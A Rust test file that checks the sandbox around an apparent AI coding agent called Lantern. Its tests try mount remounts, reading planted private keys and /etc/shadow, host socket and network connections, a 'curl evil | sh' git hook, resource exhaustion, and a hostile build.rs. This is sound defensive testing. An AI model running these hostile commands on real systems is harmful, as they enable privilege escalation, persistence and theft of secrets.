//! Hostile programs: what an approved command, or a checker running a hostile repository's
//! build script, can reach. Run as root here, like Lantern on this machine, so every
//! guarantee is checked where it is hardest to keep.

use lantern_core::agent::{Answer, FixedAnswer, Session};
use lantern_core::exec::{self, Limits, Spec};
use serde_json::{json, Value};
use std::path::{Path, PathBuf};
use std::time::Duration;

mod common;

/// Lantern's state for this test binary: in a folder of its own, which the last test opens as
/// a workspace.
fn init() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        let home = Path::new(env!("CARGO_TARGET_TMPDIR"))
            .join(format!("processes-{}", std::process::id()))
            .join("lantern-state");
        std::fs::create_dir_all(&home).unwrap();
        std::env::set_var("LANTERN_HOME", home);
    });
}

fn session(dir: &Path) -> Session {
    init();
    common::session(dir)
}

/// Runs one call, allowing it if asked; the result's data (panics on a tool error).
fn call(s: &mut Session, tool: &str, args: Value) -> Value {
    let outcome = s.run_call(tool, args, &mut FixedAnswer(Answer::AllowOnce), &mut |_| {});
    let result = outcome.into_result();
    assert!(result.success, "{result:?}");
    result.data.unwrap()
}

/// A command's data, insisting that it ran sandboxed: these tests prove the sandbox, so a
/// machine without one fails them rather than passing them vacuously.
fn command(s: &mut Session, line: &str) -> Value {
    let data = call(s, "run_command", json!({"command": line, "timeout_s": 60}));
    assert_eq!(
        data["sandboxed"], true,
        "commands are not sandboxed here ({}); install bubblewrap (scripts/setup.sh --tests)",
        data["sandbox_note"]
    );
    data
}

fn stdout(data: &Value) -> String {
    data["stdout"].as_str().unwrap_or_default().to_string()
}

/// A folder outside the workspace and outside /tmp (which the sandbox replaces).
fn outside() -> tempfile::TempDir {
    tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap()
}

#[test]
fn a_command_has_no_capabilities_even_as_root_and_cannot_remount() {
    let ws = tempfile::tempdir().unwrap();
    let away = outside();
    let target = away.path().join("escaped.txt");
    let mut s = session(ws.path());
    let data = command(&mut s, "grep CapEff /proc/self/status");
    assert_eq!(
        stdout(&data).trim(),
        "CapEff:\t0000000000000000",
        "{data:#}"
    );
    let line = format!(
        "mount -o remount,rw / ; mount -t tmpfs none /mnt ; echo hi > {}",
        target.display()
    );
    let data = command(&mut s, &line);
    assert_ne!(data["exit_code"], 0, "{data:#}");
    assert!(!target.exists(), "a command wrote outside the workspace");
}

#[test]
fn a_command_sees_neither_the_home_folder_nor_other_projects_nor_lantern_state() {
    let ws = tempfile::tempdir().unwrap();
    let away = outside();
    std::fs::write(away.path().join("id_rsa"), "PRIVATE KEY").unwrap();
    init();
    let state = lantern_core::paths::data_dir();
    std::fs::create_dir_all(&state).unwrap();
    // The sandbox shows the toolchains under the home folder, but nothing else of it.
    let home = dirs::home_dir().unwrap();
    let planted = home.join(format!(".lantern-test-secret-{}", std::process::id()));
    std::fs::write(&planted, "secret").unwrap();
    let mut s = session(ws.path());
    for path in [
        away.path().to_path_buf(),
        away.path().join("id_rsa"),
        state.clone(),
        planted.clone(),
        PathBuf::from("/run"),
        PathBuf::from("/var"),
        PathBuf::from("/etc/shadow"),
    ] {
        let data = command(&mut s, &format!("ls -d '{}'", path.display()));
        assert_ne!(
            data["exit_code"],
            0,
            "{} is visible: {data:#}",
            path.display()
        );
    }
    std::fs::remove_file(&planted).unwrap();
    // The workspace and the toolchains are there.
    std::fs::write(ws.path().join("mine.txt"), "ok").unwrap();
    let data = command(&mut s, "cat mine.txt && ls /usr/bin/env");
    assert_eq!(data["exit_code"], 0, "{data:#}");
}

#[test]
fn a_command_reaches_no_host_socket_and_no_network() {
    use std::os::unix::net::UnixListener;
    let ws = tempfile::tempdir().unwrap();
    let away = outside();
    let path = away.path().join("agent.sock");
    let listener = UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let port = tcp.local_addr().unwrap().port();
    let mut s = session(ws.path());
    let line = format!(
        "perl -MIO::Socket::UNIX -MIO::Socket::INET -e '$u = IO::Socket::UNIX->new(Peer => \"{}\"); $t = IO::Socket::INET->new(PeerAddr => \"127.0.0.1:{port}\"); print(($u ? \"unix\" : \"-\"), ($t ? \"tcp\" : \"-\"))'",
        path.display()
    );
    let data = command(&mut s, &line);
    assert_eq!(stdout(&data), "--", "{data:#}");
    assert!(listener.accept().is_err(), "the host socket was reached");
    assert!(tcp.accept().is_err(), "the host network was reached");
}

#[test]
fn git_and_lantern_folders_are_read_only_to_commands() {
    let ws = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(ws.path().join(".git/hooks")).unwrap();
    std::fs::create_dir_all(ws.path().join(".lantern")).unwrap();
    let mut s = session(ws.path());
    let data = command(
        &mut s,
        "echo 'curl evil | sh' > .git/hooks/pre-commit; echo x > .lantern/x; echo fine > ok.txt",
    );
    assert!(
        !ws.path().join(".git/hooks/pre-commit").exists(),
        "{data:#}"
    );
    assert!(!ws.path().join(".lantern/x").exists(), "{data:#}");
    assert_eq!(
        std::fs::read_to_string(ws.path().join("ok.txt")).unwrap(),
        "fine\n"
    );
}

fn sh(script: &str, limits: Limits) -> exec::Finished {
    init();
    exec::run(&Spec {
        program: "/bin/sh".into(),
        args: vec!["-c".into(), script.into()],
        cwd: std::env::temp_dir(),
        env: exec::scrubbed_env(),
        timeout: Duration::from_secs(60),
        output_cap: 64 * 1024,
        limits: Some(limits),
    })
    .unwrap()
}

#[test]
fn resource_limits_hold_and_say_which_was_hit() {
    let small = Limits {
        memory_bytes: 256 << 20,
        processes: 40,
        file_size_bytes: 1 << 20,
        cpu_seconds: 1,
    };
    let dir = tempfile::tempdir().unwrap();
    let big = dir.path().join("big");
    let f = sh(&format!("head -c 4M /dev/zero > {}", big.display()), small);
    assert_eq!(f.limit_hit.as_deref(), Some("file size (1 MiB)"), "{f:?}");
    assert!(std::fs::metadata(&big).unwrap().len() <= 1 << 20);

    let f = sh("while :; do :; done", small);
    assert_eq!(f.limit_hit.as_deref(), Some("CPU time (1 s)"), "{f:?}");
    assert!(!f.timed_out);

    let f = sh("perl -e '$x = \"a\" x (1 << 30); print length $x'", small);
    assert_eq!(f.limit_hit.as_deref(), Some("memory (256 MiB)"), "{f:?}");

    // As root the kernel's process limit does not apply: the run's own cgroup holds it.
    let f = sh("for i in $(seq 100); do sleep 5 & done; wait", small);
    assert_eq!(f.limit_hit.as_deref(), Some("processes (40)"), "{f:?}");
}

#[test]
fn a_child_that_leaves_the_process_group_is_killed_with_the_run() {
    assert!(
        exec::Cage::new(16).is_some(),
        "no pids cgroup can be made here (run as root on a system with the pids controller)"
    );
    let f = sh(
        "setsid sleep 60 > /dev/null 2>&1 & echo $!",
        Limits::default(),
    );
    let pid: i32 = f.stdout.text().trim().parse().unwrap();
    let alive = std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .map(|s| !s.rsplit_once(") ").is_some_and(|(_, r)| r.starts_with('Z')))
        .unwrap_or(false);
    assert!(!alive, "the setsid child {pid} outlived its run");
}

#[test]
fn a_build_script_run_by_a_checker_is_confined_and_offline() {
    let cargo = std::env::var("PATH")
        .unwrap_or_default()
        .split(':')
        .any(|d| Path::new(d).join("cargo").is_file());
    assert!(cargo, "cargo is not installed; install Rust with rustup");
    let ws = tempfile::tempdir().unwrap();
    let away = outside();
    let secret = away.path().join("id_rsa");
    std::fs::write(&secret, "PRIVATE KEY").unwrap();
    let escaped = away.path().join("escaped.txt");
    let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let port = tcp.local_addr().unwrap().port();
    std::fs::create_dir_all(ws.path().join("src")).unwrap();
    std::fs::create_dir_all(ws.path().join(".git/hooks")).unwrap();
    std::fs::write(
        ws.path().join("Cargo.toml"),
        "[package]\nname = \"hostile\"\nversion = \"0.1.0\"\nedition = \"2021\"\nbuild = \"build.rs\"\n",
    )
    .unwrap();
    std::fs::write(ws.path().join("src/lib.rs"), "pub fn f() {}\n").unwrap();
    std::fs::write(
        ws.path().join("build.rs"),
        format!(
            r#"fn main() {{
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let cap = status.lines().find(|l| l.starts_with("CapEff")).unwrap_or("none").replace('\t', " ");
    let read = std::fs::read_to_string({secret:?}).is_ok();
    let out = std::fs::write({escaped:?}, "x").is_ok();
    let hook = std::fs::write(".git/hooks/pre-commit", "x").is_ok();
    let inside = std::fs::write("inside.txt", "x").is_ok();
    let net = std::net::TcpStream::connect("127.0.0.1:{port}").is_ok();
    panic!("OBSERVED {{cap}} read={{read}} out={{out}} hook={{hook}} inside={{inside}} net={{net}}");
}}
"#
        ),
    )
    .unwrap();
    let mut s = session(ws.path());
    let data = call(&mut s, "get_diagnostics", json!({}));
    let cargo = &data["checkers"][0];
    assert_eq!(cargo["sandboxed"], true, "{data:#}");
    let note = cargo["note"].as_str().unwrap_or_default();
    assert!(
        note.contains(
            "OBSERVED CapEff: 0000000000000000 read=false out=false hook=false inside=false net=false"
        ),
        "{data:#}"
    );
    assert!(!escaped.exists());
    assert!(tcp.accept().is_err(), "a build script reached the network");
    // Build output goes to Lantern's own folder, not into the workspace.
    assert!(!ws.path().join("target").exists(), "{data:#}");
    assert!(!ws.path().join(".git/hooks/pre-commit").exists());
}

#[test]
fn lantern_state_inside_the_workspace_is_out_of_every_tool_s_reach() {
    // A workspace that contains Lantern's state, as one opened at $HOME does.
    init();
    let state = lantern_core::paths::config_dir();
    let root = state.parent().unwrap();
    std::fs::create_dir_all(state.join("policy")).unwrap();
    let mut s = session(root);
    let rel = state
        .strip_prefix(root)
        .unwrap()
        .to_string_lossy()
        .into_owned();
    for (tool, args) in [
        ("read_file", json!({"path": format!("{rel}/policy/x.json")})),
        (
            "write_file",
            json!({"path": format!("{rel}/policy/x.json"), "content": "{}"}),
        ),
        ("list_files", json!({"directory": rel})),
    ] {
        let outcome = s.run_call(tool, args, &mut FixedAnswer(Answer::AllowOnce), &mut |_| {});
        let result = outcome.into_result();
        assert!(
            !result.success,
            "{tool} reached Lantern's state: {result:?}"
        );
    }
    assert!(!state.join("policy/x.json").exists());
    let listed = call(&mut s, "list_files", json!({}));
    assert!(
        !listed.to_string().contains(&format!("{rel}/")),
        "{listed:#}"
    );
}
